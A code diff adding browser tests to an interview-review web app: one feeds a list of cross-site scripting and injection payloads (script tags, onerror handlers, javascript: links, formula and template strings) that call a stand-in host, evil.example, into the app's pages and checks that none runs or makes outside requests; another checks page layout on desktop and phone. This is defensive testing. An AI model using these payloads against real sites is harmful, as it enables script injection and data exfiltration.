@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import os
 import shutil
 from collections.abc import Iterator
 from pathlib import Path
@@ -211,3 +212,147 @@ def test_roles_evidence_and_words_are_corrected_on_the_page(browser: Any, served
         kinds = [r["kind"] for r in db.rows("SELECT kind FROM corrections ORDER BY created_at")]
     assert kinds == ["reject", "add", "role", "role"]
     assert lead.faults == []
+
+
+EVIL = [
+    "<script>window.ran=1;fetch('http://evil.example/a')</script>",
+    "<img src=http://evil.example/b onerror=window.ran=1>",
+    "![x](http://evil.example/c) [x](javascript:window.ran=1)",
+    '"><svg onload=window.ran=1>',
+    "{{7*7}} ${window.ran=1} =HYPERLINK(1)",
+    "<a href=javascript:window.ran=1 id=main hx-get=//evil.example/d hx-trigger=load>x</a>",
+    "</textarea><style>@import 'http://evil.example/e'</style>",
+]
+
+
+def test_hostile_talk_feedback_and_names_run_nothing_and_ask_nobody(browser: Any, tmp_path: Path) -> None:
+    from pipeline.adapters.store import people
+    from pipeline.workspace import Workspace
+
+    workspace = Workspace.create(tmp_path / "ws")
+    turns = [("left" if i % 2 else "right", text, i * 10.0, i * 10 + 9.0) for i, text in enumerate(EVIL * 2)]
+    one = house.entry("i-evil", "c-evil", ["iv-1"], tmp_path, transcript="t.vtt", format=EVIL[1])
+    (tmp_path / "t.vtt").write_text("WEBVTT", encoding="utf-8")
+
+    def told(_: str, lines: Any) -> tuple[list[house.Point], list[tuple[str, int]]]:
+        return [("tests-own-code", n.line, n.line, None) for n in lines if n.speaker == "right"], []
+
+    house.run(workspace, [one], {"i-evil": turns}, house.Pointing(told))
+    everything = "\n".join(EVIL)
+    with workspace.store().session() as db:
+        own = {"interview_id": "i-evil", "candidate_id": "c-evil", "interviewer_id": "iv-1", "sha256": "0"}
+        db.insert(
+            "feedback", [{**own, "feedback_id": "f-1", "path": "f.md", "text": everything, "created_at": "2026-01-01"}]
+        )
+        doubt = {"feedback_id": "f-1", "start": 0, "end": len(everything), "source": "rules"}
+        more = {"code": "GF101", "name": EVIL[0], "severity": "error", "text": everything, "question": EVIL[1]}
+        db.insert("findings", [{**doubt, **more}])
+        db.insert("claims", [{**doubt, "claim": 1, "state": "none_found", "detail": EVIL[2]}])
+    with house.serving(workspace) as serving:
+        page = sign_in(browser, serving, "iv-1", EVIL[0])
+        asked: list[str] = []
+        page.on("request", lambda request: asked.append(request.url))
+        first = page.goto(f"{serving.url}/interviews/i-evil").text()
+        page.locator(".own-notes").wait_for()
+        with workspace.store().session() as db:
+            for pillar in ("execution_coding",):
+                people.assign(db, "iv-1", "c-evil", None, pillar)
+        page.reload()
+        two_calls(page, "1", EVIL[6][:40] + EVIL[0], cite=False)
+        page.locator("#transcript").wait_for()
+        two_calls(page, "1", EVIL[6][:40] + EVIL[0], cite=True)
+        page.locator(".steps .closed").nth(1).wait_for()
+        page.locator("[data-piece] summary").first.click()
+        page.locator("dl.facts").wait_for()
+        page.goto(f"{serving.url}/candidates/c-evil")
+        page.locator(".doubts").wait_for()
+        assert page.evaluate("window.ran") is None
+        assert page.locator("main img, main svg[onload], main iframe").count() == 0
+        assert {url.split("/")[2] for url in asked} == {f"127.0.0.1:{serving.port}"}
+        assert "<script>window" not in first
+        assert page.faults == []
+
+
+REASON = "Began with eight services for three engineers; after the hint compared two ways with their costs."
+PAGES = {
+    "home": ("/", ".person"),
+    "first-call": ("/interviews/i-001", ".first-calls"),
+    "interview": ("/interviews/i-002", "#evidence"),
+    "debrief": ("/candidates/c-002", ".differ"),
+}
+
+
+def test_pages_fit_a_desk_and_a_phone_in_light_and_dark(browser: Any, tmp_path_factory: pytest.TempPathFactory) -> None:
+    """Nothing is wider than the screen. With VERBATIM_PICTURES=docs/screenshots the pictures are kept there."""
+    from pipeline.adapters.store import people, reviews
+
+    workspace = house.demo_house(tmp_path_factory.mktemp("pictures"))
+    kept = os.environ.get("VERBATIM_PICTURES")
+    folder = Path(kept) if kept else tmp_path_factory.mktemp("shots")
+    levels = {"iv-2": ("weak", "ok", "weak"), "iv-5": ("ok", "ok", "strong"), "iv-6": ("weak", "weak", "weak")}
+    with house.serving(workspace) as serving:
+        with workspace.store().session() as db:
+            quotes = db.rows(
+                "SELECT evidence_id, pillar FROM evidence_quotes WHERE interview_id = 'i-002' ORDER BY start_s"
+            )
+            for reviewer, name in (
+                ("iv-1", "Ann Okafor"),
+                ("iv-2", "Ben Sato"),
+                ("iv-5", "Cleo Brandt"),
+                ("iv-6", "Dov Lind"),
+            ):
+                people.add_reviewer(db, reviewer, name, "interviewer")
+            people.assign(db, "iv-1", "c-002", None, None)
+            for reviewer in ("iv-5", "iv-6"):
+                people.assign(db, reviewer, "c-002", None, None)
+            for reviewer, (one, two, three) in levels.items():
+                for step, level in ((1, one), (2, two)) if reviewer == "iv-2" else ((2, two),):
+                    for n, pillar in enumerate(dict.fromkeys(q["pillar"] for q in quotes)):
+                        ids = [q["evidence_id"] for q in quotes if q["pillar"] == pillar][:2] if step == 2 else []
+                        reviews.save_call(
+                            db,
+                            {
+                                "candidate_id": "c-002",
+                                "interview_id": "i-002",
+                                "reviewer_id": reviewer,
+                                "pillar": pillar,
+                                "step": step,
+                                "level": level if n % 2 else three,
+                                "rationale": REASON,
+                                "evidence_ids": ids,
+                                "basis": "cited" if ids else "notes",
+                            },
+                        )
+                    reviews.close_step(db, "i-002", reviewer, step, 1 if reviewer == "iv-2" else 2)
+        cookies = sign_in(browser, serving, "iv-5", "Cleo Brandt").context.cookies()
+        mine = sign_in(browser, serving, "iv-1", "Ann Okafor").context.cookies()
+        lead = sign_in(browser, serving, "lead", "Lea Novak", "hiring_lead").context.cookies()
+        who = {"home": lead, "first-call": mine, "interview": cookies, "debrief": lead}
+        with workspace.store().session() as db:
+            db.insert(
+                "debrief_openings",
+                [
+                    {
+                        "candidate_id": "c-002",
+                        "opened_by": "lead",
+                        "missing": "1 things",
+                        "reason": "Ann is on leave",
+                        "created_at": "2026-03-09",
+                    }
+                ],
+            )
+        for scheme in ("light", "dark"):
+            for width, height in ((1280, 860), (390, 844)):
+                context = browser.new_context(
+                    viewport={"width": width, "height": height}, color_scheme=scheme, device_scale_factor=1
+                )
+                page = context.new_page()
+                for name, (path, what) in PAGES.items():
+                    context.clear_cookies()
+                    context.add_cookies(who[name])
+                    page.goto(serving.url + path)
+                    page.locator(what).first.wait_for()
+                    page.screenshot(path=folder / f"{name}-{scheme}-{width}.png")
+                    wide = page.evaluate("document.documentElement.scrollWidth")
+                    assert wide <= width, (name, scheme, width, wide)
+                context.close()
